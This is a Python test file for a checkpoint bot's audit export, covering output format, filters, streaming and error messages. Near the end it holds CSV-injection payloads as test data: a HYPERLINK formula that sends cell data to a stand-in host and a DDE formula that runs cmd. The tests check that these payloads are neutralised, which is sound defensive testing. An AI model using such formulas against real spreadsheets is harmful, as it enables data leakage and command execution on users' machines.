"""The audit export at scale: the same bytes as before, filters that do
what they say, rows streamed rather than held, writers never blocked."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import event
from sqlalchemy.engine import Engine

from bench.audit_export import old_rows, seed
from bot.service import audit, audit_format
from bot.service.audit import AuditFilter, audit_text, parse_filter, stream_audit
from bot.service.audit_format import AUDIT_FIELDS, export_audit
from bot.service.errors import BadRequest
from bot.store.db import make_engine, session_scope
from bot.store.migrate import upgrade
from bot.store.models import Batch, Change, ChangeEvent, VMSettingChange
from tests.cli_support import invoke, one_line_error

BENCH = Path(__file__).parents[1] / "bench" / "audit_export.py"
NOW = datetime(2026, 12, 4, 12, 0, tzinfo=UTC)


def old_jsonl(engine: Engine) -> str:
    return "".join(json.dumps(r, sort_keys=True) + "\n" for r in old_rows(engine))


def old_csv(engine: Engine) -> str:
    buffer = io.StringIO()
    writer = csv.DictWriter(
        buffer, fieldnames=[*AUDIT_FIELDS, "details"], quoting=csv.QUOTE_NONNUMERIC
    )
    writer.writeheader()
    for row in old_rows(engine):
        writer.writerow({**row, "details": json.dumps(row["details"], sort_keys=True)})
    return buffer.getvalue()


@pytest.fixture
def seeded(engine: Engine) -> Engine:
    seed(engine, 30)
    return engine


def _new_ways(engine: Engine, fmt: str) -> list[str]:
    """The export as the CLI writes it (several partition sizes, so lines
    cross chunk boundaries) and as the rows' dicts formatted."""
    return [
        "".join(export_audit(stream_audit(engine), fmt)),
        *("".join(audit_text(engine, fmt=fmt, batch=batch)) for batch in (7, 2000)),
    ]


def test_the_export_is_byte_identical_to_the_old_way(seeded: Engine) -> None:
    assert _new_ways(seeded, "jsonl") == [old_jsonl(seeded)] * 3
    assert _new_ways(seeded, "csv") == [old_csv(seeded)] * 3
    lines = old_jsonl(seeded).splitlines()
    assert len(lines) == 30 * 6 + 20  # six events a change, then the settings changes


def _record_odd_rows(engine: Engine) -> None:
    """Rows as the bot writes them through the ORM, with what the bench's
    seed never has: microseconds, a batch, text beyond ASCII, details
    whose keys are out of order, floats, nulls, empty containers."""
    at = datetime(2026, 3, 1, 9, 30, 0, 123456, tzinfo=UTC)
    with session_scope(engine) as s:
        wave = Batch(
            requester="U0000009",
            requester_team="T0001",
            reason="patch wave",
            checkpoint_type="production",
            ttl_seconds=3600,
            created_at=at,
        )
        s.add(wave)
        s.flush()
        for n, batch_id in ((1, wave.id), (2, None)):
            change = Change(
                vm_id=f"00000000-0000-0000-0000-00000000000{n}",
                vm_name=f"Sérvidor-{n}",
                host="HV01",
                checkpoint_type="production",
                reason='Ünïcode "quoted" reason\nwith a newline',
                requester="U0000009",
                requester_team=None if n == 2 else "T0001",
                state="active",
                ttl_seconds=3600,
                created_at=at,
                updated_at=at,
                batch_id=batch_id,
            )
            s.add(change)
            s.flush()
            assert change.id is not None
            details: list[dict[str, Any]] = [
                {"zeta": 1, "alpha": {"y": [3, 2.5, None], "b": "é\u2603"}, "m": {}},
                {},
                {"ratio": 0.1, "big": 12345678901234567890, "neg": -1e-7, "t": True},
            ]
            for seq, detail in enumerate(details, start=1):
                s.add(
                    ChangeEvent(
                        change_id=change.id,
                        seq=seq,
                        # Whole seconds, microseconds, trailing zeros.
                        at=at.replace(microsecond=(0, 123456, 120000)[seq - 1])
                        + timedelta(seconds=seq),
                        actor="cli:ops" if seq == 2 else "U0000009",
                        actor_team=None if seq == 2 else "T0001",
                        kind="note",
                        from_state=None,
                        to_state="active" if seq == 3 else None,
                        message='naïve, "quoted", tab\t and \U0001f600',
                        details=detail,
                    )
                )
        s.add(
            VMSettingChange(
                vm_id="00000000-0000-0000-0000-000000000001",
                vm_name="Sérvidor-1",
                host="HV01",
                actor="U0000009",
                actor_team="T0001",
                at=at,
                before={"b": 1, "a": 2},
                after={"a": 3},
                reason="tidy",
            )
        )


def test_odd_rows_are_byte_identical_to_the_old_way(engine: Engine) -> None:
    _record_odd_rows(engine)
    new = old_jsonl(engine)
    assert _new_ways(engine, "jsonl") == [new] * 3
    assert _new_ways(engine, "csv") == [old_csv(engine)] * 3
    for seen in ('"batch": "BAT-0001"', ":01+00:00", ":02.123456+00:00", ":03.120000+00:00"):
        assert seen in new
    assert len(new.splitlines()) == 2 * 3 + 1


def test_sqlite_text_of_another_shape_is_read_as_before(sqlite_engine: Engine) -> None:
    """A timestamp written without microseconds (by hand, or by SQLite's own
    CURRENT_TIMESTAMP) takes the column type's conversion, as before."""
    _record_odd_rows(sqlite_engine)
    with sqlite_engine.begin() as conn:
        conn.exec_driver_sql("UPDATE change_event SET at = '2026-03-01 10:00:00' WHERE id = 1")
        conn.exec_driver_sql("UPDATE change_event SET at = '2026-03-01 10:00:00.5' WHERE id = 2")
    new = old_jsonl(sqlite_engine)
    assert _new_ways(sqlite_engine, "jsonl") == [new] * 3
    assert '"at": "2026-03-01T10:00:00+00:00"' in new


def test_a_value_of_another_type_than_its_column_is_written_as_before(
    sqlite_engine: Engine,
) -> None:
    """SQLite keeps text in an INTEGER column when it is not a number: the
    line is then written from its dict, as json.dumps wrote it."""
    _record_odd_rows(sqlite_engine)
    with sqlite_engine.begin() as conn:
        conn.exec_driver_sql("UPDATE change_event SET seq = 'two' WHERE id = 2")
    new = old_jsonl(sqlite_engine)
    assert '"seq": "two"' in new
    assert _new_ways(sqlite_engine, "jsonl") == [new] * 3


_json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=12,
)


@settings(max_examples=300, deadline=None)
@given(value=_json_values, pad=st.sampled_from(["", " ", "\n "]))
def test_the_fast_json_paths_agree_with_the_json_module(value: Any, pad: str) -> None:
    text = pad + json.dumps(value) + pad
    assert audit._decode(text) == json.loads(text)
    assert audit_format.encode_sorted(value) == json.dumps(value, sort_keys=True)


def _filtered(engine: Engine, keep: Callable[[dict[str, Any]], bool]) -> list[dict[str, Any]]:
    return [r for r in old_rows(engine) if keep(r)]


def test_filters_keep_exactly_the_rows_they_name(seeded: Engine) -> None:
    rows = list(old_rows(seeded))
    # Half-open: --since keeps its instant, --until does not.
    since = datetime.fromisoformat(rows[40]["at"])
    until = datetime.fromisoformat(rows[90]["at"])
    cases: list[tuple[AuditFilter, Callable[[dict[str, Any]], bool]]] = [
        (AuditFilter(since=since), lambda r: datetime.fromisoformat(r["at"]) >= since),
        (AuditFilter(until=until), lambda r: datetime.fromisoformat(r["at"]) < until),
        (
            AuditFilter(since=since, until=until),
            lambda r: since <= datetime.fromisoformat(r["at"]) < until,
        ),
        (AuditFilter(vm="vm0007"), lambda r: r["vm"] == "VM0007"),
        (AuditFilter(change_id=12), lambda r: r["change"] == "CHG-0012"),
        (AuditFilter(actor="U0000007"), lambda r: r["actor"] == "U0000007"),
        (AuditFilter(actor="U0000001"), lambda r: r["actor"] == "U0000001"),
        (
            AuditFilter(actor="policy", change_id=3),
            lambda r: r["actor"] == "policy" and r["change"] == "CHG-0003",
        ),
    ]
    for flt, keep in cases:
        got = list(stream_audit(seeded, flt))
        assert got == _filtered(seeded, keep), flt
        assert got, f"{flt} kept nothing: the case proves nothing"
    # A VM id names the VM as well as its name does; settings rows have theirs.
    vm_id = "00000000-0000-0000-0000-000000000003"
    by_id = list(stream_audit(seeded, AuditFilter(vm=vm_id)))
    assert {r["vm"] for r in by_id} == {"VM0003"}
    assert {r["event"] for r in by_id} >= {"requested", "settings"}


def test_an_actor_finds_what_the_policy_decided_on_their_request(engine: Engine) -> None:
    """Seen: alice's rollback that waited for approval, and bob's refused
    extension, were events of actor `policy` (which decided): `--actor
    cli:alice` did not find what she had asked for. The policy stays the
    actor; the person is `on_behalf_of` in the details, and found by it."""
    seed(engine, 3)
    at = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
    with session_scope(engine) as s:
        for seq, (kind, asker) in enumerate(
            (("rollback_awaits_approval", "cli:alice"), ("extend_refused", "cli:bob")), start=90
        ):
            s.add(
                ChangeEvent(
                    change_id=1,
                    seq=seq,
                    at=at + timedelta(seconds=seq),
                    actor="policy",
                    kind=kind,
                    message="needs 1 approval",
                    details={"verdict": "needs_approval", "on_behalf_of": asker},
                )
            )
    found = [(r["event"], r["actor"]) for r in stream_audit(engine, AuditFilter(actor="cli:alice"))]
    assert found == [("rollback_awaits_approval", "policy")]
    bob = list(stream_audit(engine, AuditFilter(actor="cli:bob", change_id=1)))
    assert [r["details"]["on_behalf_of"] for r in bob] == ["cli:bob"]
    # The policy's own events are still all found by its name.
    assert len(list(stream_audit(engine, AuditFilter(actor="policy", change_id=1)))) >= 2


def test_the_cli_records_who_asked_what_the_policy_decided(tmp_path: Path) -> None:
    """The demo's prod rollback waits for an approver: the event says on
    whose request, and `audit export --actor` finds it."""
    alice, bob = {"CHECKPOINT_BOT_USER": "alice"}, {"CHECKPOINT_BOT_USER": "bob"}
    assert invoke(tmp_path, "checkpoint", "create", "WEB01", "-r", "x", env=alice).returncode == 0
    invoke(tmp_path, "checkpoint", "rollback", "CHG-1", env=alice)
    invoke(tmp_path, "checkpoint", "extend", "CHG-1", "30d", env=bob)
    mine = invoke(tmp_path, "audit", "export", "--actor", "cli:alice", "--change", "CHG-1")
    rows = [json.loads(line) for line in mine.stdout.splitlines()]
    assert ("rollback_awaits_approval", "policy", "cli:alice") in {
        (r["event"], r["actor"], r["details"].get("on_behalf_of")) for r in rows
    }
    bobs = invoke(tmp_path, "audit", "export", "--actor", "cli:bob", "--change", "CHG-1")
    assert [json.loads(line)["event"] for line in bobs.stdout.splitlines()] == [
        "extend_awaits_approval"
    ]


def test_postgresql_reads_through_a_server_side_cursor(pg_engine: Engine) -> None:
    import psycopg

    seed(pg_engine, 5)
    cursors: list[object] = []

    def seen(_conn: Any, cursor: Any, *_: Any) -> None:
        cursors.append(cursor)

    event.listen(pg_engine, "before_cursor_execute", seen)
    try:
        rows = stream_audit(pg_engine, batch=7)
        first = next(rows)
        assert first["change"] == "CHG-0001"
        assert isinstance(cursors[-1], psycopg.ServerCursor)
        assert len(list(rows)) == 5 * 6 + 20 - 1
    finally:
        event.remove(pg_engine, "before_cursor_execute", seen)


def test_reading_ahead_hands_over_every_batch_then_the_error() -> None:
    def batches() -> Iterator[list[int]]:
        yield [1, 2]
        yield [3]
        raise RuntimeError("connection lost")

    ahead = audit._read_ahead(batches())
    assert [next(ahead), next(ahead)] == [[1, 2], [3]]
    with pytest.raises(RuntimeError, match="connection lost"):
        next(ahead)


def test_an_export_left_midway_stops_its_reader_first(pg_engine: Engine) -> None:
    """Closing the export stops and joins the thread reading ahead before
    the connection goes back to the pool; the next export is whole."""
    seed(pg_engine, 40)
    before = threading.active_count()
    chunks = audit_text(pg_engine, batch=7)
    first = next(chunks)
    assert first.startswith('{"actor": ') and threading.active_count() == before + 1
    chunks.close()
    assert threading.active_count() == before
    assert "".join(audit_text(pg_engine, batch=7)) == old_jsonl(pg_engine)


def _peak_mb(url: str) -> float:
    done = subprocess.run(
        [sys.executable, str(BENCH), "--child", "new", "--url", url],
        capture_output=True,
        text=True,
        check=True,
        timeout=600,
    )
    peak: float = json.loads(done.stdout.strip().splitlines()[-1])["peak_mb"]
    return peak


@pytest.mark.slow
def test_memory_does_not_grow_with_the_table(tmp_path: Path) -> None:
    """A process exporting 48,000 events peaks within a few MB of one
    exporting 60 (the old way, which held every row, grew by hundreds)."""
    urls = {}
    for name, changes in (("small", 10), ("large", 8000)):
        urls[name] = f"sqlite:///{tmp_path / name}.db"
        engine = make_engine(urls[name])
        upgrade(engine)
        seed(engine, changes)
        engine.dispose()
    small, large = _peak_mb(urls["small"]), _peak_mb(urls["large"])
    assert large - small < 30, f"peak RSS {small:.0f} MB for 60 events, {large:.0f} MB for 48k"


def test_an_export_in_progress_never_blocks_a_writer(sqlite_engine: Engine) -> None:
    seed(sqlite_engine, 20)
    rows = stream_audit(sqlite_engine, batch=5)
    next(rows)  # mid-stream: the read transaction is open
    path = sqlite_engine.url.database
    assert path is not None
    writer = sqlite3.connect(path, timeout=0.5, isolation_level=None)
    try:
        writer.execute("BEGIN IMMEDIATE")  # the bot's writers take this lock
        writer.execute("UPDATE change SET reason = 'changed' WHERE id = 1")
        writer.execute("COMMIT")
    finally:
        writer.close()
    rest = list(rows)
    assert len(rest) == 20 * 6 + 20 - 1  # one snapshot: the export goes on


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        ({"since": "yesterday"}, "--since 'yesterday' is not a time: use ISO 8601"),
        ({"until": "2026-13-01"}, "--until '2026-13-01' is not a time"),
        ({"since": "2026-12-02", "until": "2026-12-01"}, "must be before --until"),
        (
            {"since": "1d", "until": "2d"},
            f"--since 1d ({NOW - timedelta(days=1):%Y-%m-%d %H:%M:%S} UTC) must be before "
            f"--until 2d ({NOW - timedelta(days=2):%Y-%m-%d %H:%M:%S} UTC)",
        ),
        # Written as durations and wrong as durations: said so, where they
        # were "not a time" until 2026-12-05.
        (
            {"since": "400d"},
            "--since '400d' is too long: a duration is at most 366d (a year); for an "
            f"earlier start give a date, like {NOW.year - 2}-01-01",
        ),
        ({"since": "-1d"}, "--since '-1d' is not more than zero: a duration is positive"),
        ({"change": "42x"}, "--change '42x' is not a change: use a reference like CHG-0042"),
        ({"vm": "  "}, "--vm is empty"),
        ({"actor": "John Smith"}, "--actor 'John Smith' is not an actor"),
        ({"actor": ""}, "is not an actor"),
    ],
)
def test_bad_filters_say_what_would_be_right(options: dict[str, str], expected: str) -> None:
    with pytest.raises(BadRequest) as caught:
        parse_filter(now=NOW, **options)
    assert expected in str(caught.value)


def test_filters_read_the_forms_people_type() -> None:
    flt = parse_filter(
        now=NOW,
        since="7d",
        until="2026-12-04T10:00+01:00",
        vm=" WEB01 ",
        change="chg-42",
        actor="<@U0123ABCD|alice>",
    )
    assert flt == AuditFilter(
        since=NOW - timedelta(days=7),
        until=datetime(2026, 12, 4, 9, 0, tzinfo=UTC),
        vm="WEB01",
        change_id=42,
        actor="U0123ABCD",
    )
    assert parse_filter(now=NOW, since="2026-12-01").since == datetime(2026, 12, 1, tzinfo=UTC)


@settings(max_examples=300, deadline=None)
@given(
    since=st.none() | st.text(max_size=30),
    until=st.none() | st.text(max_size=30),
    change=st.none() | st.text(max_size=12),
    actor=st.none() | st.text(max_size=20),
)
def test_any_filter_text_is_parsed_or_refused_clearly(
    since: str | None, until: str | None, change: str | None, actor: str | None
) -> None:
    try:
        flt = parse_filter(now=NOW, since=since, until=until, change=change, actor=actor)
    except BadRequest as exc:
        assert str(exc).startswith("--") and "\n" not in str(exc)
        return
    if flt.since and flt.until:
        assert flt.since < flt.until
    for when in (flt.since, flt.until):
        assert when is None or when.utcoffset() == timedelta(0)


def test_the_cli_filters_and_refuses_bad_filters_in_one_line(tmp_path: Path) -> None:
    assert invoke(tmp_path, "checkpoint", "create", "APP01", "-r", "one").returncode == 0
    assert invoke(tmp_path, "checkpoint", "create", "WEB01", "-r", "two").returncode == 0
    helped = invoke(tmp_path, "audit", "export", "--help")
    for option in ("--since", "--until", "--vm", "--change", "--actor"):
        assert option in helped.stdout
    every = [json.loads(x) for x in invoke(tmp_path, "audit", "export").stdout.splitlines()]
    only = invoke(tmp_path, "audit", "export", "--vm", "web01", "--since", "1h")
    assert only.returncode == 0, only.stderr
    kept = [json.loads(x) for x in only.stdout.splitlines()]
    assert kept == [r for r in every if r["vm"] == "WEB01"] and kept
    out = tmp_path / "chg1.csv"
    wrote = invoke(
        tmp_path, "audit", "export", "--change", "CHG-1", "--format", "csv", "-o", str(out)
    )
    assert wrote.returncode == 0
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines[1:] and all(line.startswith('"CHG-0001",') for line in lines[1:])
    assert f"wrote {out} (csv, {len(lines) - 1} events)" in wrote.stderr
    # A filter that matches nothing says so (the export is empty, not lost);
    # a change the record does not hold is an error, as in `change show`.
    empty = invoke(tmp_path, "audit", "export", "--vm", "NOSUCH01", "--actor", "U0NOBODY")
    assert (empty.returncode, empty.stdout) == (0, "")
    assert empty.stderr.splitlines()[-1] == "no events matched --vm NOSUCH01, --actor U0NOBODY"
    as_csv = invoke(tmp_path, "audit", "export", "--vm", "NOSUCH01", "--format", "csv")
    assert as_csv.stdout.count("\n") == 1 and as_csv.stdout.startswith('"change",')
    assert as_csv.stderr.splitlines()[-1] == "no events matched --vm NOSUCH01"
    before = out.read_bytes()
    missing = invoke(tmp_path, "audit", "export", "--change", "CHG-9", "-o", str(out))
    assert missing.returncode == 1
    said = "checkpoint-bot: error: no change CHG-0009: nothing was exported"
    assert one_line_error(missing) == said
    assert out.read_bytes() == before  # the file an earlier export wrote is left as it was
    bad = invoke(tmp_path, "audit", "export", "--until", "2026-12-01", "--since", "2026-12-02")
    assert bad.returncode == 2
    assert "must be before --until" in one_line_error(bad)
    assert bad.stdout == ""


# What a spreadsheet reads as the start of a formula (OWASP, CSV Injection:
# https://owasp.org/www-community/attacks/CSV_Injection).
FORMULAS = {
    "APP01": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "WEB01": "+1+1",
    "WEB02": "-2+3+cmd|' /C calc'!A0",
    "STG-WEB01": "@SUM(1,1)",
}


def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path: Path) -> None:
    """A reason typed in Slack or the CLI reaches the auditor's spreadsheet
    as text: a cell that begins as a formula gets a leading '. The JSON
    lines keep the reason as it was given."""
    for vm, reason in {**FORMULAS, "STG-APP01": "plain - text = fine"}.items():
        made = invoke(tmp_path, "checkpoint", "create", vm, "-r", reason)
        assert made.returncode == 0, made.stderr
    exported = invoke(tmp_path, "audit", "export", "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    said = {r["vm"]: r["message"] for r in rows if r["event"] == "requested"}
    assert said == {
        **{vm: "'" + reason for vm, reason in FORMULAS.items()},
        "STG-APP01": "plain - text = fine",
    }
    lines = [json.loads(x) for x in invoke(tmp_path, "audit", "export").stdout.splitlines()]
    asked = {r["vm"]: r["message"] for r in lines if r["event"] == "requested"}
    assert asked == {**FORMULAS, "STG-APP01": "plain - text = fine"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_csv_cell_of_text_is_neutralised(start: str) -> None:
    """Whichever column holds it (a VM or host name, an actor, a team, the
    details) and whichever of OWASP's characters it begins with; numbers
    stay numbers, text that merely contains one stays as it is."""
    row: dict[str, Any] = {key: f"{start}{key}" for key in AUDIT_FIELDS}
    row |= {"seq": -1, "details": -2}
    written = "".join(export_audit([row, {**row, "message": f"a{start}b"}], "csv"))
    header, first, second = csv.reader(io.StringIO(written, newline=""))
    assert header == [*AUDIT_FIELDS, "details"]
    assert first == [
        *("-1" if key == "seq" else f"'{start}{key}" for key in AUDIT_FIELDS),
        "'-2",
    ]
    assert second[AUDIT_FIELDS.index("message")] == f"a{start}b"
    assert json.loads("".join(export_audit([row], "jsonl")))["vm"] == f"{start}vm"


def test_csv_text_is_quoted_so_a_semicolon_locale_keeps_the_cell() -> None:
    """A spreadsheet whose list separator is `;` (most of Europe's locales)
    splits an unquoted cell at a reason's `;`. Every cell of text is
    quoted; the sequence number stays a bare number."""
    row: dict[str, Any] = dict.fromkeys(AUDIT_FIELDS, "")
    row |= {"seq": 7, "message": "patch KB5031; reboot", "vm": "WEB01", "details": {}}
    written = "".join(export_audit([row], "csv"))
    line = written.splitlines()[1]
    assert '"patch KB5031; reboot"' in line and ",7," in line
    cells = next(csv.reader(io.StringIO(line)))
    assert all(cell == "7" or line.count(f'"{cell}"') for cell in cells)


def test_an_export_counts_events_not_lines_and_a_csv_file_gets_csv(tmp_path: Path) -> None:
    """Seen: "wrote c.csv (8 lines)" and "wrote c.jsonl (6 lines)" for the
    same six events (a reason with a line break is two lines of CSV), and
    `-o report.csv` without --format wrote JSON lines into it."""
    made = invoke(tmp_path, "checkpoint", "create", "APP01", "-r", "line one\nline two")
    assert made.returncode == 0, made.stderr
    as_json = tmp_path / "c.jsonl"
    wrote_json = invoke(tmp_path, "audit", "export", "--change", "CHG-1", "-o", str(as_json))
    events = len(as_json.read_text(encoding="utf-8").splitlines())
    assert events >= 2
    assert f"wrote {as_json} (jsonl, {events} events)" in wrote_json.stderr
    as_csv = tmp_path / "Report.CSV"
    wrote_csv = invoke(tmp_path, "audit", "export", "--change", "CHG-1", "-o", str(as_csv))
    assert wrote_csv.returncode == 0, wrote_csv.stderr
    text = as_csv.read_text(encoding="utf-8")
    assert text.startswith('"change",') and "line one\nline two" in text
    assert len(text.splitlines()) > events + 1  # the reason's line break
    assert f"wrote {as_csv} (csv, {events} events)" in wrote_csv.stderr
    # --format still decides when given.
    forced = tmp_path / "forced.csv"
    invoke(tmp_path, "audit", "export", "--change", "CHG-1", "--format", "jsonl", "-o", str(forced))
    assert forced.read_text(encoding="utf-8").startswith("{")
